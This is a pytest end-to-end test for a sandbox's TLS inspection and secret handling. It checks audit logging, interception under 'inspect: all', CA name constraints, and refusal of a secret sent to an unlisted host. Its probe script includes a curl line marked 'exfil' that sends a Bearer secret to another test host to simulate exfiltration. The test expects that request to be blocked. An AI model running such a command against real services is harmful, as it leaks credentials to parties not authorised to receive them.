"""End-to-end inspection (docs/secrets.md, "Inspected hosts" and "Inspect
all"): one TCG guest boot, a policy file with `inspect: true` on
allowed.test and `inspect: all`, and `--secret TESTKEY@allowed.test`. A
recording HTTPS server on 127.0.0.2 (test CA, given as --upstream-ca)
serves allowed.test and other.test, both intercepted (other.test only
because of inspect: all, on no secret's list). The guest's curl trusts
only its own bundle; the server's record is the oracle for what left the
host, the audit log for what was recorded (method and path, never the
query). The spliced path of a secret without inspect: all is
tests/e2e/test_secrets.py's boot (other.test gets the placeholder).
"""
import json
import os
import sys
import uuid

import pytest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from test_launch_basic import LAUNCH, Env, leftovers, require  # noqa: E402,F401

SRC = os.environ.get("SANDBOX_SRC", os.path.dirname(os.path.dirname(
    os.path.dirname(os.path.abspath(__file__)))))
sys.path.insert(0, os.path.join(SRC, "tests", "integration"))
import sbxtest  # noqa: E402

TOK = "tok" + uuid.uuid4().hex
VALUE = "sk-insp-" + uuid.uuid4().hex + uuid.uuid4().hex[:8]


class KeyEnv(Env):
    """The test user's launcher with TESTKEY in its environment."""

    def argv(self, args):
        env = ["env", "HOME=" + self.home, "XDG_STATE_HOME=" + self.state,
               "XDG_RUNTIME_DIR=" + self.runtime, "TESTKEY=" + VALUE,
               "PATH=/usr/local/bin:/usr/bin:/bin"]
        return self.prefix + env + [LAUNCH] + list(args)

PROBE = r"""
say() { echo "CHECK $1=$2"; }
say inspected "$(curl -sS --max-time 60 https://allowed.test:PORT/insp?t=TOK 2>&1)"
say other_sandbox_ca "$(curl -sS --max-time 60 --cacert /etc/ssl/certs/sandbox-ca.pem https://other.test:PORT/other-ca 2>&1)"
say other_testca "$(curl -sS --max-time 60 -o /dev/null --cacert testca.pem https://other.test:PORT/other 2>&1; echo " rc=$?")"
say exfil "$(curl -sS --max-time 60 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $TESTKEY" https://other.test:PORT/exfil 2>&1)"
say key "$(curl -sS --max-time 60 -H "Authorization: Bearer $TESTKEY" https://allowed.test:PORT/key 2>&1)"
say constraints "$(openssl x509 -noout -text -in /etc/ssl/certs/sandbox-ca.pem | grep -A6 'Name Constraints' | tr -s ' \n' '  ')"
"""


@pytest.fixture(scope="module")
def insp():
    require()
    e = KeyEnv()
    procs = sbxtest.Procs()
    pki = sbxtest.make_pki(os.path.join(e.root, "pki"))
    dns = sbxtest.Dnsmasq(procs, e.root)
    seen = sbxtest.Recorder()
    servers = []
    try:
        tls = sbxtest.recording_server("127.0.0.2", 0, seen, pki["cert"], pki["key"],
                                       b"hello-inspect\n")
        servers.append(tls)
        port = tls.server_address[1]
        with open(os.path.join(e.ws, "testca.pem"), "wb") as f:
            f.write(open(pki["ca"], "rb").read())
        upstream_ca = os.path.join(e.root, "upstream-ca.pem")
        with open(upstream_ca, "wb") as f:
            f.write(open(pki["ca"], "rb").read())
        with open(os.path.join(e.ws, "policy.yaml"), "w") as f:
            f.write("version: 1\nallow:\n"
                    f"  - host: allowed.test\n    ports: [{port}]\n"
                    "    inspect: true\n"
                    f"  - host: other.test\n    ports: [{port}]\n"
                    f"  - cidr: 127.0.0.2/32\n    ports: [{port}]\n"
                    "inspect: all\n")
        with open(os.path.join(e.ws, "probe.sh"), "w") as f:
            f.write(PROBE.replace("PORT", str(port)).replace("TOK", TOK))
        for n in ("testca.pem", "policy.yaml", "probe.sh"):
            e.own(os.path.join(e.ws, n))
        e.own(upstream_ca)
        r = e.run(["--policy", "policy.yaml", "--upstream-ca", upstream_ca,
                   "--secret", "TESTKEY@allowed.test",
                   "--resolver", "127.0.0.1:%d" % dns.port, "--name", "inspecttest",
                   "--", "sh", "probe.sh"], stdin=open(os.devnull), timeout=420)
        out = r.stdout.decode(errors="replace")
        checks = dict(l[6:].split("=", 1) for l in out.splitlines()
                      if l.startswith("CHECK ") and "=" in l)
        audit = []
        runs = e.runs()
        if runs:
            for root, _, files in os.walk(runs[-1]):
                for n in files:
                    if n.startswith("audit.jsonl"):
                        with open(os.path.join(root, n)) as fh:
                            audit += [json.loads(l) for l in fh if l.strip()]
        yield {"r": r, "out": out, "checks": checks, "seen": seen.snapshot(),
               "audit": audit, "env": e}
    finally:
        for s in servers:
            s.shutdown()
            s.server_close()
        procs.kill_all()
        e.cleanup()


def test_run_succeeds(insp):
    assert insp["r"].returncode == 0, (insp["out"], insp["r"].stderr)
    assert leftovers(insp["env"].uid) == []


def test_inspected_host_through_the_guests_own_trust(insp):
    c = insp["checks"]
    assert c.get("inspected") == "hello-inspect", c
    got = [x for x in insp["seen"] if x["path"].startswith("/insp")]
    assert got and got[0]["path"] == f"/insp?t={TOK}", got


def test_each_request_recorded_without_its_query(insp):
    a = insp["audit"]
    req = [(x.get("method"), x.get("host"), x.get("path")) for x in a
           if x.get("event") == "request"]
    assert ("GET", "allowed.test", "/insp") in req, a[-10:]
    assert ("GET", "other.test", "/other-ca") in req, a[-10:]
    assert all(TOK not in json.dumps(x) for x in a)


def test_other_host_intercepted_under_inspect_all(insp):
    """other.test is on no list but inspect: all: the guest sees the
    sandbox CA's leaf (its trust store has it; the test CA alone fails)."""
    c = insp["checks"]
    assert c.get("other_sandbox_ca") == "hello-inspect", c
    assert "rc=0" not in c.get("other_testca", ""), c
    rec = [x for x in insp["audit"] if x.get("event") == "intercept"
           and x.get("host") == "other.test" and x.get("decision") == "allow"]
    assert rec and "inspect: all" in rec[0].get("reason", ""), insp["audit"][-10:]


def test_placeholder_to_other_host_refused(insp):
    """The acceptance case of inspect: all: TESTKEY's placeholder sent over
    TLS to other.test never reaches the server; the audit log has the
    exfiltration attempt; the secret's own host still gets the key."""
    c = insp["checks"]
    assert c.get("exfil") == "403", c
    assert not [x for x in insp["seen"] if x["path"].startswith("/exfil")]
    deny = [x for x in insp["audit"] if x.get("decision") == "deny"
            and x.get("secret") == "TESTKEY" and x.get("host") == "other.test"]
    assert deny and "exfiltration" in deny[0].get("reason", ""), insp["audit"][-10:]
    assert c.get("key") == "hello-inspect", c
    got = [x for x in insp["seen"] if x["path"] == "/key"]
    assert got and got[0]["auth"] == [f"Bearer {VALUE}"], got
    assert all(VALUE not in json.dumps(x) for x in insp["audit"])
    assert VALUE not in insp["out"]


def test_ca_constrained_to_the_allowed_names(insp):
    c = insp["checks"].get("constraints", "")
    assert "Permitted" in c and "DNS:allowed.test" in c and "DNS:other.test" in c, c
    assert "Excluded" in c, c
